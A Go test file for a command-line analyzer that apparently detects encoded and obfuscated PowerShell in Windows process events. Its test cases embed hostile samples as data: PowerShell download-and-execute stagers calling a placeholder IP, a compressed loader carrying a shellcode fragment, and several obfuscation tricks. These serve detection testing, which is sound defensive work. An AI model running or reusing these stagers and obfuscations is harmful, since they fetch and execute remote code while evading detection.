package cmdline

import (
	"flag"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/evtxhunt/evtxhunt/analyzer/event"
)

var update = flag.Bool("update", false, "rewrite golden files under testdata/")

func TestRunTable(t *testing.T) {
	stager := "$c=New-Object Net.WebClient;IEX $c.DownloadString('http://198.51.100.7/a')"
	inner := "Start-Process notepad.exe; Write-Output layer-two"
	shellcode := "/EiD5PDozAAAAEFRQVBSUVZIMdJlSItSYEiLUhhIi1Ig" // bytes fc 48 83 e4 f0 e8 ...
	msfLike := "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + gzipBase64(t, "$x=[Convert]::FromBase64String('"+shellcode+"');Write-Output loader") + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
	tests := []struct {
		name          string
		image, cmd    string
		want          []*Check
		reasonHas     []string
		decodedPrefix string
		decodedHas    []string
	}{
		{name: "benign command", image: cmdImage, cmd: `cmd.exe /c dir C:\Users\Public`},
		{name: "empty command line", image: cmdImage, cmd: ""},
		{name: "encoded stager", image: powershellImage, cmd: "powershell.exe -NoP -NonI -W Hidden -Enc " + encodeCommand(stager),
			want: []*Check{EncodedPowerShell}, reasonHas: []string{"-EncodedCommand", "UTF-16LE"}, decodedPrefix: stager},
		{name: "encoded via cmd", image: cmdImage, cmd: "cmd /c powershell -enc " + encodeCommand("Write-Output hi"),
			want: []*Check{EncodedPowerShell}, reasonHas: []string{"starts PowerShell"}, decodedPrefix: "Write-Output hi"},
		{name: "nested literal inside encoded script", image: powershellImage,
			cmd:  "powershell -w hidden -e " + encodeCommand("IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"+encodeCommand(inner)+"')))"),
			want: []*Check{EncodedPowerShell}, reasonHas: []string{"nested FromBase64String"}, decodedHas: []string{"--- FromBase64String", inner}},
		{name: "gzip compressed loader with shellcode", image: powershellImage, cmd: "powershell.exe -nop -w hidden -c " + msfLike,
			want: []*Check{EncodedPowerShell}, reasonHas: []string{"gzip, UTF-8", "binary"}, decodedHas: []string{"Write-Output loader", "starts fc4883e4f0e8"}},
		{name: "variable argument falls back to the quoted literal", image: powershellImage,
			cmd:  "powershell -c \"$b='" + encodeCommand(inner+" padding to make the literal long enough") + "';IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)))\"",
			want: []*Check{EncodedPowerShell}, reasonHas: []string{"FromBase64String variable"}, decodedHas: []string{inner}},
		{name: "script argument that only looks like Base64", image: powershellImage, cmd: `powershell.exe -File C:\Scripts\deploy.ps1 -e production`},
		{name: "ExecutionPolicy is not EncodedCommand", image: powershellImage, cmd: `powershell.exe -ex bypass -File C:\Scripts\report.ps1`},
		{name: "carets", image: cmdImage, cmd: `cmd /c p^o^w^e^r^s^h^e^l^l -c whoami`,
			want: []*Check{ObfuscatedCommandLine}, reasonHas: []string{"carets inside words"}},
		{name: "backticks and mixed case", image: powershellImage, cmd: "powershell -c \"I`nv`oke-Ex`pression (ne`w-ob`ject NeT.WeBcLiEnT).downloadstring('http://x/y')\"",
			want: []*Check{ObfuscatedCommandLine}, reasonHas: []string{"backticks inside words", `"NeT.WeBcLiEnT"`}},
		{name: "reordered format string", image: powershellImage, cmd: "powershell $env:A|.(Get-C`ommand ('{1}e{0}'-f'x','i'))",
			want: []*Check{ObfuscatedCommandLine}, reasonHas: []string{"reordered placeholders"}},
		{name: "format string in order", image: powershellImage, cmd: `powershell -c "Write-Host ('{0} of {1}' -f 3, 10)"`},
		{name: "environment substrings", image: cmdImage, cmd: `cmd /c %COMSPEC:~-16,1%%COMSPEC:~-1%%COMSPEC:~-13,1% /c echo hi`,
			want: []*Check{ObfuscatedCommandLine}, reasonHas: []string{"3 environment-variable substrings"}},
		{name: "char casts", image: powershellImage, cmd: `powershell -c "iex ([char]73+[char]69+[char]88)"`,
			want: []*Check{ObfuscatedCommandLine}, reasonHas: []string{"3 [char] casts"}},
		{name: "concatenated strings", image: powershellImage, cmd: `powershell -c "$a='Down'+'load'+'Str'+'ing'"`,
			want: []*Check{ObfuscatedCommandLine}, reasonHas: []string{"3 string concatenations"}},
		{name: "character code list", image: powershellImage, cmd: "powershell -c -JOIN('" + strings.Repeat("91A78H101@116f", 6) + "'-split'[A-Z@a-z]'|%{[char][int]$_})",
			want: []*Check{ObfuscatedCommandLine}, reasonHas: []string{"character codes in a row"}},
		{name: "mixed-case letters inside a Base64 blob are no keyword", image: `C:\Program Files\Contoso\agent.exe`,
			cmd: `agent.exe --token eyJhbGciOiJIUzI1NiJ9.HiDdEnBypAss4xQ+PoWeRsHeLl9=`},
		{name: "findstr anchors are not carets in words", image: `C:\Windows\System32\findstr.exe`, cmd: `findstr /r "^error.*^warning" C:\logs\app.log`},
		{name: "long command line", image: cmdImage, cmd: "cmd /c echo " + strings.Repeat("A", 1200),
			want: []*Check{LongCommandLine}, reasonHas: []string{"1212 characters", "threshold 1000"}},
		{name: "long browser command line is normal", image: `C:\Program Files\Google\Chrome\Application\chrome.exe`, cmd: "chrome.exe --type=renderer " + strings.Repeat("--flag=x ", 200)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			hits := Run(newEvent(tc.image, tc.cmd), nil)
			var got, want []string
			for _, h := range hits {
				got = append(got, h.Check.ID)
			}
			for _, c := range tc.want {
				want = append(want, c.ID)
			}
			if !slices.Equal(got, want) {
				t.Fatalf("checks %v, want %v (reasons %q)", hitIDs(hits), checkTitles(tc.want), reasons(hits))
			}
			for _, h := range hits {
				for _, s := range tc.reasonHas {
					if !strings.Contains(h.Reason, s) {
						t.Errorf("reason %q lacks %q", h.Reason, s)
					}
				}
				if h.Check != EncodedPowerShell {
					continue
				}
				if !strings.HasPrefix(h.Decoded, tc.decodedPrefix) {
					t.Errorf("decoded %q does not start with %q", h.Decoded, tc.decodedPrefix)
				}
				for _, s := range tc.decodedHas {
					if !strings.Contains(h.Decoded, s) {
						t.Errorf("decoded %q lacks %q", h.Decoded, s)
					}
				}
			}
		})
	}
}

// TestEncodedCommandSpellings checks every prefix PowerShell accepts for
// -EncodedCommand, with each option character, and near misses.
func TestEncodedCommandSpellings(t *testing.T) {
	payload := encodeCommand("Write-Output spelled")
	var accepted []string
	for n := 1; n <= len("encodedcommand"); n++ {
		accepted = append(accepted, "encodedcommand"[:n])
	}
	accepted = append(accepted, "ec", "EC", "Enc", "ENCODEDCOMMAND", "EncodedCommand")
	for _, name := range accepted {
		for _, dash := range []string{"-", "/", "\u2013", "\u2014", "\u2015"} {
			cmd := "powershell.exe -NoProfile " + dash + name + " " + payload
			hits := Run(newEvent(powershellImage, cmd), nil)
			if len(hits) != 1 || hits[0].Check != EncodedPowerShell || hits[0].Decoded != "Write-Output spelled" {
				t.Errorf("%q: got %v %q", dash+name, hitIDs(hits), reasons(hits))
			}
		}
	}
	for _, form := range []string{`-EncodedCommand:` + payload, `-enc "` + payload + `"`, `-enc '` + payload + `'`} {
		if hits := Run(newEvent(powershellImage, "powershell "+form), nil); len(hits) != 1 {
			t.Errorf("%q: got %v", form, hitIDs(hits))
		}
	}
	for _, name := range []string{"ex", "ep", "encodeda", "encodedcommandx", "eco", "noexit", "e1"} {
		cmd := "powershell.exe -" + name + " " + payload
		if hits := Run(newEvent(powershellImage, cmd), nil); len(hits) != 0 {
			t.Errorf("-%s is not -EncodedCommand, got %v %q", name, hitIDs(hits), reasons(hits))
		}
	}
	// A word glued to the dash is no parameter: "x-enc" inside a value.
	if hits := Run(newEvent(powershellImage, "powershell -c Get-Item file-enc "+payload), nil); len(hits) != 0 {
		t.Errorf("glued dash: got %v", hitIDs(hits))
	}
}

func TestOptions(t *testing.T) {
	c := New(Options{LongThreshold: 20, LongBenignImages: []string{`\tool.exe`}})
	long := "x.exe " + strings.Repeat("a", 30)
	if hits := c.Run(newEvent(`C:\x.exe`, long), nil); len(hits) != 1 || hits[0].Check != LongCommandLine {
		t.Errorf("threshold 20: got %v", hitIDs(hits))
	}
	if hits := c.Run(newEvent(`C:\Apps\TOOL.EXE`, long), nil); len(hits) != 0 {
		t.Errorf("benign image, case-insensitive: got %v", hitIDs(hits))
	}
	if hits := Run(newEvent(`C:\x.exe`, long), nil); len(hits) != 0 {
		t.Errorf("default threshold: got %v", hitIDs(hits))
	}
}

func TestAbsentCommandLine(t *testing.T) {
	p := &event.Process{EventID: event.SecurityProcessCreate}
	p.Set(event.FieldImage, powershellImage)
	if hits := Run(p, nil); len(hits) != 0 {
		t.Errorf("no command line: got %v", hitIDs(hits))
	}
}

func TestDecodedTextIsCapped(t *testing.T) {
	script := strings.Repeat("Write-Output 'filler line';", (maxDecodedText/27)+2000)
	hits := Run(newEvent(powershellImage, "powershell -enc "+encodeCommand(script)), nil)
	if len(hits) == 0 || hits[len(hits)-1].Check != EncodedPowerShell {
		t.Fatalf("got %v", hitIDs(hits))
	}
	d := hits[len(hits)-1].Decoded
	if len(d) > maxDecodedText+64 || !strings.HasSuffix(d, "[decoded text truncated]") {
		t.Errorf("decoded text of %d bytes, suffix %q", len(d), d[max(0, len(d)-40):])
	}
}

func TestChecksHaveStableMetadata(t *testing.T) {
	seen := map[string]bool{}
	for _, c := range Checks() {
		if len(c.ID) != 36 || seen[c.ID] || c.Title == "" || len(c.Description) < 100 || len(c.Tags) < 2 {
			t.Errorf("check %+v: want a unique UUID, a title, a description and ATT&CK tags", c)
		}
		seen[c.ID] = true
	}
}

// TestNoAllocationWithoutHits: Run is called for every event, so events
// that trigger nothing must not allocate.
func TestNoAllocationWithoutHits(t *testing.T) {
	events := []*event.Process{
		newEvent(`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`),
		newEvent(powershellImage, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\report.ps1 -e production`),
		newEvent(cmdImage, `cmd /c "C:\Program Files\Contoso\bin\run.cmd" --mode=full`),
		newEvent(`C:\Program Files\Google\Chrome\Application\chrome.exe`, "chrome.exe "+strings.Repeat("--enable-features=X ", 100)),
	}
	dst := make([]Hit, 0, 4)
	for _, p := range events {
		if n := testing.AllocsPerRun(100, func() { dst = Run(p, dst[:0]) }); n != 0 || len(dst) != 0 {
			t.Errorf("%.60q: %v allocations, %d hits", p.CommandLine, n, len(dst))
		}
	}
}

// TestPayloadsGolden runs testdata/payloads.txt through Run and compares
// the checks, reasons and decoded text with testdata/payloads.golden.
func TestPayloadsGolden(t *testing.T) {
	var b strings.Builder
	for _, pe := range readPayloads(t) {
		fmt.Fprintf(&b, "line %d:\n", pe.line)
		for _, h := range Run(newEvent(pe.image, pe.cmd), nil) {
			fmt.Fprintf(&b, "  %s: %s\n", h.Check.Title, h.Reason)
			if h.Decoded != "" {
				fmt.Fprintf(&b, "  decoded: %q\n", h.Decoded)
			}
		}
	}
	compareGolden(t, "testdata/payloads.golden", b.String())
}

func compareGolden(t *testing.T, path, got string) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if got != string(want) {
		gl, wl := strings.Split(got, "\n"), strings.Split(string(want), "\n")
		for i := 0; i < len(gl) && i < len(wl); i++ {
			if gl[i] != wl[i] {
				t.Fatalf("%s differs at line %d:\n want %.300s\n got  %.300s", path, i+1, wl[i], gl[i])
			}
		}
		t.Fatalf("%s differs in length: want %d lines, got %d", path, len(wl), len(gl))
	}
}

func checkTitles(cs []*Check) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Title)
	}
	return out
}

func reasons(hits []Hit) []string {
	var out []string
	for _, h := range hits {
		out = append(out, h.Reason)
	}
	return out
}

func TestDecodeEncodedPowerShell(t *testing.T) {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
	enc := encodeCommand(script)
	for _, cmd := range []string{
		`%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -e ` + enc,
		`powershell -EncodedCommand ` + enc,
	} {
		got, ok := DecodeEncodedPowerShell(cmd)
		if !ok || got != script {
			t.Errorf("%q: got %q, %v", cmd, got, ok)
		}
	}
	if _, ok := DecodeEncodedPowerShell(`C:\Program Files\Google\Update\GoogleUpdate.exe /svc`); ok {
		t.Error("decoded a plain image path")
	}
}
